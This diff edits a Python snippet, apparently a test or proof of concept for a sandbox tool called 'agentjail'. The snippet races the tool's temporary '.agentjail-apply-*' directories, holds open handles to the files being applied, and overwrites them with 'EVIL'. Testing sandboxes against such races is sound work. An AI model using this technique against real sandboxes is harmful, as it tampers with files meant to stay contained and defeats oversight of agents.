@@ -162,8 +162,8 @@ while not os.path.exists("f1499"):
 	for d in os.listdir("."):
 		if not d.startswith(".agentjail-apply-"): continue
 		seen.add(d)
-		for i in range(1500):
-			try: held.append(os.open("%s/%d" % (d, i), os.O_RDWR))
+		for i in range(1500 if len(held) < 100 else 0):
+			try: len(held) < 500 and held.append(os.open("%s/%d" % (d, i), os.O_RDWR))
 			except OSError: pass
 for fd in held: os.pwrite(fd, b"EVIL", 0)
 print(len(seen), len(held), flush=True)`
